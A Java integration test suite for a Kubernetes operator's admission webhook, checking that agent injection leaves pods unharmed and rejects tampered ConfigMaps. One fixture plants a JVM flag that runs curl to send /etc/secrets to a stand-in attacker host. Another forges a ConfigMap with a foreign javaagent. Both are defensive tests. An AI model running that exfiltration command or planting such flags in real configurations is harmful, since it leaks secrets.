package io.streamsmemory.operator.admission;

import static io.streamsmemory.operator.admission.WebhookOperator.WAIT;
import static io.streamsmemory.operator.admission.WebhookOperator.annotation;
import static io.streamsmemory.operator.admission.WebhookOperator.configMap;
import static io.streamsmemory.operator.admission.WebhookOperator.deployment;
import static io.streamsmemory.operator.admission.WebhookOperator.policy;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvFromSource;
import io.fabric8.kubernetes.api.model.EnvFromSourceBuilder;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.Event;
import io.fabric8.kubernetes.api.model.LimitRangeBuilder;
import io.fabric8.kubernetes.api.model.LocalObjectReference;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.api.model.apps.ReplicaSet;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.streamsmemory.controlplane.EnableLocalControlPlane;
import io.streamsmemory.operator.Fixtures;
import io.streamsmemory.operator.api.Rollout;
import io.streamsmemory.operator.api.StreamsMemoryPolicy;
import io.streamsmemory.operator.workload.AllocationConfigMap;
import io.streamsmemory.operator.workload.MetadataKeys;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.function.Consumer;
import java.util.function.Predicate;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.TestInstance;

/**
 * Issue 9, the webhook's cases 4 to 8: pods the injection must never break or silently change, created through
 * the real API server, which calls the operator's webhook over TLS, and run (kube-scheduler binds them to kwok's
 * node). Each test writes its do-no-harm line
 * ({@link DoNoHarm}). The operator here runs with OpenShift-style settings: no runAsUser, an agent pull secret.
 */
@EnableLocalControlPlane(controllerManager = true, scheduler = true, kwok = true)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class WebhookDoNoHarmTest {
    static final String NS = "harm";
    static final String LIMITED_NS = "harm-limited";
    static final String AGENT_PULL_SECRET = "agent-registry";
    static final ObjectMapper MAPPER = new ObjectMapper();

    KubernetesClient client;
    WebhookOperator operator;
    DoNoHarm harm;

    /** The webhook configuration this class installed must not call into the next class's cluster. */
    @AfterAll
    void removeTheWebhookConfiguration() {
        Fixtures.deleteWebhookConfiguration(client);
    }

    @BeforeAll
    void start() throws Exception {
        Map<String, String> restricted = Map.of("pod-security.kubernetes.io/enforce", "restricted");
        Fixtures.namespace(client, NS, restricted);
        Fixtures.namespace(client, LIMITED_NS, restricted);
        client.resource(new LimitRangeBuilder()
                        .withNewMetadata()
                        .withName("small-containers")
                        .withNamespace(LIMITED_NS)
                        .endMetadata()
                        .withNewSpec()
                        .addNewLimit()
                        .withType("Container")
                        .addToMax("cpu", new Quantity("50m"))
                        .endLimit()
                        .endSpec()
                        .build())
                .create();
        int port = WebhookOperator.prepareLocal(client);
        operator = WebhookOperator.start(
                client,
                WebhookOperator.localSettings(port).runAsUser(null).imagePullSecrets(List.of(AGENT_PULL_SECRET)));

        client.resource(policy(NS, "orders", Rollout.Manual)).create();
        client.resource(policy(LIMITED_NS, "orders", Rollout.Manual)).create();
        // A policy the tests delete once it has published: nothing then re-publishes its workloads' ConfigMaps,
        // so the tests' edits stay as they made them.
        client.resource(policy(NS, "frozen", Rollout.Manual)).create();
        // No replicas: the tests create each pod themselves, shaped as the case needs.
        client.resource(deployment(NS, "named", "orders", 0, List.of())).create();
        client.resource(deployment(LIMITED_NS, "limited", "orders", 0, List.of()))
                .create();
        client.resource(withoutContainerAnnotation(deployment(NS, "unnamed", "orders", 0, List.of()), "proxy"))
                .create();
        Deployment typo = deployment(NS, "typo", "orders", 0, List.of());
        typo.getMetadata().getAnnotations().put(MetadataKeys.CONTAINER, "stream");
        client.resource(typo).create();
        client.resource(deployment(NS, "edited", "frozen", 0, List.of())).create();
        client.resource(deployment(NS, "forged", "frozen", 0, List.of())).create();
        for (String workload : List.of("edited", "forged")) {
            await().atMost(WAIT).until(() -> configMap(client, NS, workload) != null);
        }
        client.resources(StreamsMemoryPolicy.class)
                .inNamespace(NS)
                .withName("frozen")
                .delete();
        await().atMost(WAIT)
                .until(() -> client.resources(StreamsMemoryPolicy.class)
                                .inNamespace(NS)
                                .withName("frozen")
                                .get()
                        == null);
    }

    /** Each test's own record of what it admitted. */
    @BeforeEach
    void newRecord() {
        harm = new DoNoHarm(client);
    }

    @AfterAll
    void stop() {
        if (operator != null) {
            operator.close();
        }
    }

    /** A template whose only container is the application's, named by nothing: the first container is the target. */
    private static Deployment withoutContainerAnnotation(Deployment deployment, String dropContainer) {
        deployment.getMetadata().getAnnotations().remove(MetadataKeys.CONTAINER);
        deployment
                .getSpec()
                .getTemplate()
                .getSpec()
                .getContainers()
                .removeIf(c -> c.getName().equals(dropContainer));
        return deployment;
    }

    @Test
    void podsWithANameTheWebhookAddsAreAdmittedUninjectedAndSayWhy(TestInfo test) {
        Container clash = restrictedContainer(WebhookSettings.INIT_CONTAINER);
        Pod container = admit(
                NS, "named", spec -> spec.editSpec().addToContainers(clash).endSpec());
        Pod init = admit(
                NS, "named", spec -> spec.editSpec().addToInitContainers(clash).endSpec());
        Pod volume = admit(
                NS,
                "named",
                spec -> spec.editSpec()
                        .addToVolumes(new VolumeBuilder()
                                .withName(WebhookSettings.ALLOCATION_VOLUME)
                                .withNewEmptyDir()
                                .endEmptyDir()
                                .build())
                        .endSpec());

        assertSkipped(container, "already has a container named streams-memory-agent (in containers)");
        assertSkipped(init, "already has a container named streams-memory-agent (in initContainers)");
        assertSkipped(volume, "already has a volume named streams-memory-allocation");
        assertThat(container.getSpec().getInitContainers()).isEmpty();
        assertThat(init.getSpec().getInitContainers()).hasSize(1);
        await().atMost(WAIT)
                .until(() -> events("named", "InjectionSkipped").stream()
                        .anyMatch(e -> e.getMessage().contains("(in initContainers)")));
        harm.write(4, test);
    }

    @Test
    void theTargetIsTheTemplatesContainerEvenWhenAMeshPutItsSidecarFirst(TestInfo test) {
        // As Istio's injector leaves a pod: its proxy first, the application second.
        Pod pod = admit(
                NS,
                "unnamed",
                spec -> spec.editSpec()
                        .withContainers(
                                restrictedContainer("istio-proxy"),
                                spec.build().getSpec().getContainers().get(0))
                        .endSpec());

        assertThat(annotation(pod, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("streams");
        assertThat(pod.getSpec().getContainers().get(0).getEnv()).isNullOrEmpty();
        assertThat(javaToolOptions(pod.getSpec().getContainers().get(1))).contains("-javaagent:");
        // Chosen when the operator planned the workload, from its template.
        assertThat(annotation(configMap(client, NS, "unnamed"), MetadataKeys.TARGET_CONTAINER))
                .isEqualTo("streams");
        harm.write(5, test);
    }

    @Test
    void theRecordedTargetFollowsTheWorkloadsAnnotationEvenWhenTheAllocationStaysTheSame(TestInfo test) {
        client.resource(deployment(NS, "retarget", "orders", 0, List.of())).create();
        await().atMost(WAIT)
                .until(() ->
                        "streams".equals(annotation(configMap(client, NS, "retarget"), MetadataKeys.TARGET_CONTAINER)));
        String allocationHash = annotation(configMap(client, NS, "retarget"), MetadataKeys.ALLOCATION_HASH);
        // The user moves the agent to the other container (same memory: the same allocation).
        Fixtures.edit(client.apps().deployments().inNamespace(NS).withName("retarget"), d -> {
            d.getMetadata().getAnnotations().put(MetadataKeys.CONTAINER, "proxy");
            return d;
        });
        await().atMost(WAIT)
                .until(() ->
                        "proxy".equals(annotation(configMap(client, NS, "retarget"), MetadataKeys.TARGET_CONTAINER)));
        assertThat(annotation(configMap(client, NS, "retarget"), MetadataKeys.ALLOCATION_HASH))
                .isEqualTo(allocationHash);
        Pod pod = admittedOnceSeen("retarget", p -> "proxy".equals(annotation(p, MetadataKeys.INJECTED_CONTAINER)));

        assertThat(annotation(pod, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("proxy");
        harm.write(5, test);
    }

    @Test
    void aContainerAnnotationNamingNoContainerInjectsNothingAndSaysWhy(TestInfo test) {
        Pod pod = admit(NS, "typo", UnaryOperator.identity());

        assertSkipped(pod, "the pod has no container named \"stream\"");
        assertThat(pod.getSpec().getContainers())
                .allSatisfy(c -> assertThat(c.getEnv()).isNullOrEmpty());
        await().atMost(WAIT)
                .until(() -> events("typo", "InjectionSkipped").stream()
                        .anyMatch(e -> e.getMessage().contains("no container named \"stream\"")));
        harm.write(5, test);
    }

    @Test
    void javaToolOptionsFromEnvFromIsKeptAndThePodSaysWhy(TestInfo test) {
        String userOptions = "-Djavax.net.ssl.trustStore=/etc/tls/truststore.jks -javaagent:/apm/apm-agent.jar";
        applyConfigMap("jvm-options", "JAVA_TOOL_OPTIONS", userOptions);
        client.resource(new SecretBuilder()
                        .withNewMetadata()
                        .withName("jvm-secrets")
                        .withNamespace(NS)
                        .endMetadata()
                        .addToStringData("JAVA_TOOL_OPTIONS", userOptions)
                        .build())
                .serverSideApply();
        Pod fromConfigMap = admittedWithEnvFrom(new EnvFromSourceBuilder()
                .withNewConfigMapRef("jvm-options", false)
                .build());
        Pod fromSecret = admittedWithEnvFrom(new EnvFromSourceBuilder()
                .withNewSecretRef("jvm-secrets", false)
                .build());

        for (Pod pod : List.of(fromConfigMap, fromSecret)) {
            assertSkipped(pod, "may take JAVA_TOOL_OPTIONS from ");
            assertThat(pod.getSpec().getContainers().get(1).getEnv()).isNullOrEmpty();
        }
        await().atMost(WAIT)
                .until(() -> events("named", "InjectionSkipped").stream()
                        .anyMatch(e -> e.getMessage().contains("Secret jvm-secrets (envFrom)")));

        // An envFrom ConfigMap with the application's own settings only is read, and does not stop the injection.
        applyConfigMap("app-env", "BOOTSTRAP_SERVERS", "kafka:9092");
        Pod withAppEnv = admittedWithEnvFrom(
                new EnvFromSourceBuilder().withNewConfigMapRef("app-env", false).build());
        assertThat(annotation(withAppEnv, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("streams");
        assertThat(javaToolOptions(withAppEnv.getSpec().getContainers().get(1))).startsWith("-javaagent:");
        // The agent finds its allocation: the variable the envFrom does not set is added.
        assertThat(withAppEnv.getSpec().getContainers().get(1).getEnv())
                .extracting(EnvVar::getName)
                .contains("STREAMS_MEMORY_ALLOCATION", "MALLOC_ARENA_MAX");
        harm.write(6, test);
    }

    @Test
    void javaToolOptionsListedTwiceGetsTheAgentInTheEntryInForce(TestInfo test) {
        Pod pod = admit(
                NS,
                "named",
                streams(c -> c.addToEnv(
                        new EnvVar("JAVA_TOOL_OPTIONS", "-Dfirst=1", null),
                        new EnvVar("JAVA_TOOL_OPTIONS", "-Dsecond=2", null))));

        List<EnvVar> env = pod.getSpec().getContainers().get(1).getEnv();
        assertThat(env.get(0)).isEqualTo(new EnvVar("JAVA_TOOL_OPTIONS", "-Dfirst=1", null));
        // Kubernetes gives the process the last entry of a name: the agent must be in that one.
        assertThat(javaToolOptions(pod.getSpec().getContainers().get(1))).startsWith("-Dsecond=2 -javaagent:");
        harm.write(6, test);
    }

    @Test
    void inARestrictedNamespaceTheInjectedPodIsAdmittedWithThePlatformSettings(TestInfo test) {
        Pod pod = admit(
                NS,
                "named",
                spec -> spec.editSpec()
                        .addToImagePullSecrets(new LocalObjectReference("app-registry"))
                        .endSpec());

        assertThat(annotation(pod, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("streams");
        Container init = pod.getSpec().getInitContainers().get(0);
        assertThat(init.getSecurityContext().getRunAsUser()).isNull(); // run-as-user=-1, as for OpenShift
        assertThat(init.getSecurityContext().getRunAsNonRoot()).isTrue();
        assertThat(pod.getSpec().getImagePullSecrets())
                .extracting(LocalObjectReference::getName)
                .containsExactly("app-registry", AGENT_PULL_SECRET);
        harm.write(7, test);
    }

    @Test
    void aLimitRangeTheInitContainerWouldBreakSkipsThePodInsteadOfGettingItRefused(TestInfo test) {
        Pod pod = admit(LIMITED_NS, "limited", UnaryOperator.identity());

        assertSkipped(pod, "would break LimitRange small-containers (cpu limit 100m above max 50m)");
        assertThat(pod.getSpec().getInitContainers()).isEmpty();
        harm.write(7, test);
    }

    @Test
    void aHandEditedConfigMapReachesNoJvm(TestInfo test) {
        // kubectl edit: a flag added to the published document, by a field manager that is not the operator.
        Fixtures.edit(
                client.configMaps().inNamespace(NS).withName(configMapName("edited")),
                cm -> withJvmOptions(cm, flags -> flags.add("-XX:OnError=curl -d @/etc/secrets http://evil.example")));
        Pod pod = admittedOnceSeen("edited", p -> p.toString().contains("OnError"));

        assertThat(pod.getSpec().getContainers())
                .allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("OnError"));
        assertSkipped(pod, "ConfigMap " + configMapName("edited") + " was not used");
        await().atMost(WAIT)
                .until(() -> events("edited", "AllocationRefused").stream()
                        .anyMatch(e -> e.getMessage().contains("not by the operator")));
        harm.write(8, test);
    }

    @Test
    void aConfigMapForgedWithTheOperatorsFieldManagerAndHashStillReachesNoJvmWithAFlagTheEngineDoesNotEmit(
            TestInfo test) throws Exception {
        ConfigMap forged =
                withJvmOptions(configMap(client, NS, "forged"), flags -> flags.add("-javaagent:/tmp/other.jar"));
        forged.getMetadata()
                .getAnnotations()
                .put(
                        MetadataKeys.DATA_HASH,
                        sha256(annotation(forged, MetadataKeys.TARGET_CONTAINER), forged.getData()));
        forged.getMetadata().setManagedFields(null);
        forged.getMetadata().setResourceVersion(null);
        forged.getMetadata().setUid(null);
        forged.getMetadata().setCreationTimestamp(null);
        client.resource(forged)
                .fieldManager(MetadataKeys.FIELD_MANAGER)
                .forceConflicts()
                .serverSideApply();
        Pod pod = admittedOnceSeen("forged", p -> p.toString().contains("/tmp/other.jar"));

        assertThat(pod.getSpec().getContainers())
                .allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("other.jar"));
        assertSkipped(pod, "\"-javaagent:/tmp/other.jar\" is not a flag the operator sets");
        await().atMost(WAIT)
                .until(() -> events("forged", "AllocationRefused").stream()
                        .anyMatch(e -> e.getMessage().contains("/tmp/other.jar")));
        harm.write(8, test);
    }

    /**
     * Admits a pod of the workload once the webhook has seen the edited ConfigMap: dry runs (which go through
     * the webhook too) until the pod is either skipped or shows the edit.
     */
    private Pod admittedOnceSeen(String workload, Predicate<Pod> showsEdit) {
        await().atMost(WAIT).until(() -> {
            Pod probe = client.resource(pod(NS, workload, UnaryOperator.identity()))
                    .dryRun()
                    .create();
            return annotation(probe, MetadataKeys.INJECTION_SKIPPED) != null || showsEdit.test(probe);
        });
        return admit(NS, workload, UnaryOperator.identity());
    }

    private static ConfigMap withJvmOptions(ConfigMap configMap, Consumer<ArrayNode> change) {
        try {
            ObjectNode document =
                    (ObjectNode) MAPPER.readTree(configMap.getData().get(MetadataKeys.ALLOCATION_KEY));
            change.accept((ArrayNode) document.get("jvmOptions"));
            configMap.getData().put(MetadataKeys.ALLOCATION_KEY, MAPPER.writeValueAsString(document));
            return configMap;
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** The operator's data hash, computed independently: SHA-256 over the target container and each entry in key order. */
    private static String sha256(String target, Map<String, String> data) throws Exception {
        MessageDigest digest = MessageDigest.getInstance("SHA-256");
        digest.update(Objects.requireNonNullElse(target, "").getBytes(StandardCharsets.UTF_8));
        for (Map.Entry<String, String> entry : new TreeMap<>(data).entrySet()) {
            digest.update((byte) 0);
            digest.update(entry.getKey().getBytes(StandardCharsets.UTF_8));
            digest.update((byte) 0);
            digest.update(entry.getValue().getBytes(StandardCharsets.UTF_8));
        }
        return HexFormat.of().formatHex(digest.digest());
    }

    private static String configMapName(String workload) {
        return AllocationConfigMap.configMapName("Deployment", workload);
    }

    /**
     * A pod of the workload as its ReplicaSet would create it (owner, pod-template-hash), shaped by
     * {@code change}. Its app label differs from the selector, so the ReplicaSet (at 0 replicas) lets it be.
     */
    private Pod pod(String namespace, String workload, UnaryOperator<PodBuilder> change) {
        await().atMost(WAIT)
                .until(() -> configMap(client, namespace, workload) != null && replicaSet(namespace, workload) != null);
        ReplicaSet replicaSet = replicaSet(namespace, workload);
        Deployment deployment = client.apps()
                .deployments()
                .inNamespace(namespace)
                .withName(workload)
                .get();
        PodBuilder pod = new PodBuilder()
                .withNewMetadata()
                .withGenerateName(workload + "-")
                .withNamespace(namespace)
                .addToLabels("app", workload + "-by-test")
                .addToLabels(
                        "pod-template-hash",
                        replicaSet.getMetadata().getLabels().get("pod-template-hash"))
                .addToOwnerReferences(Fixtures.appsController(
                        "ReplicaSet",
                        replicaSet.getMetadata().getName(),
                        replicaSet.getMetadata().getUid()))
                .endMetadata()
                .withSpec(deployment.getSpec().getTemplate().getSpec());
        return change.apply(pod).build();
    }

    private ReplicaSet replicaSet(String namespace, String workload) {
        return client.apps().replicaSets().inNamespace(namespace).list().getItems().stream()
                .filter(rs -> rs.getMetadata().getName().startsWith(workload + "-")
                        && rs.getMetadata().getOwnerReferences().stream()
                                .anyMatch(o -> o.getName().equals(workload)))
                .findFirst()
                .orElse(null);
    }

    /** Changes the "streams" container (the second of {@link WebhookOperator#deployment}'s template). */
    private static UnaryOperator<PodBuilder> streams(UnaryOperator<ContainerBuilder> change) {
        return pod -> pod.editSpec()
                .setToContainers(
                        1,
                        change.apply(new ContainerBuilder(
                                        pod.buildSpec().getContainers().get(1)))
                                .build())
                .endSpec();
    }

    /** A container the restricted Pod Security Standard admits. */
    private static Container restrictedContainer(String name) {
        return new ContainerBuilder()
                .withName(name)
                .withImage("example.test/" + name + ":1")
                .withNewSecurityContext()
                .withAllowPrivilegeEscalation(false)
                .withRunAsNonRoot(true)
                .withNewCapabilities()
                .withDrop("ALL")
                .endCapabilities()
                .withNewSeccompProfile()
                .withType("RuntimeDefault")
                .endSeccompProfile()
                .endSecurityContext()
                .build();
    }

    /** A pod of the workload ({@link #pod}) created through the webhook, recorded in {@code harm}, and unharmed. */
    private Pod admit(String namespace, String workload, UnaryOperator<PodBuilder> change) {
        return admitted(harm.admit(pod(namespace, workload, change)));
    }

    private static Pod admitted(DoNoHarm.Admission admission) {
        assertThat(admission.refusal()).as("the API server's refusal").isNull();
        assertThat(admission.ran()).as("the pod ran").isTrue();
        assertThat(admission.settingsLost()).as("settings of the user's lost").isZero();
        return admission.admitted();
    }

    private void assertSkipped(Pod pod, String reason) {
        assertThat(annotation(pod, MetadataKeys.INJECTION_SKIPPED)).contains(reason);
        assertThat(annotation(pod, MetadataKeys.ALLOCATION_HASH)).isNull();
        assertThat(pod.getSpec().getVolumes()).noneMatch(v -> v.getName().equals(WebhookSettings.AGENT_VOLUME));
    }

    private static String javaToolOptions(Container container) {
        List<EnvVar> env = container.getEnv() == null ? List.of() : container.getEnv();
        return env.stream()
                .filter(e -> e.getName().equals("JAVA_TOOL_OPTIONS"))
                .reduce((a, b) -> b)
                .map(EnvVar::getValue)
                .orElse("");
    }

    /** A ConfigMap of NS holding {@code key}, applied server-side. */
    private void applyConfigMap(String name, String key, String value) {
        client.resource(new ConfigMapBuilder()
                        .withNewMetadata()
                        .withName(name)
                        .withNamespace(NS)
                        .endMetadata()
                        .addToData(key, value)
                        .build())
                .serverSideApply();
    }

    /** A pod of Deployment "named" whose streams container takes its environment from {@code envFrom}, admitted. */
    private Pod admittedWithEnvFrom(EnvFromSource envFrom) {
        return admit(NS, "named", streams(c -> c.addToEnvFrom(envFrom)));
    }

    private List<Event> events(String objectName, String reason) {
        return Fixtures.events(client, NS, objectName, reason);
    }
}
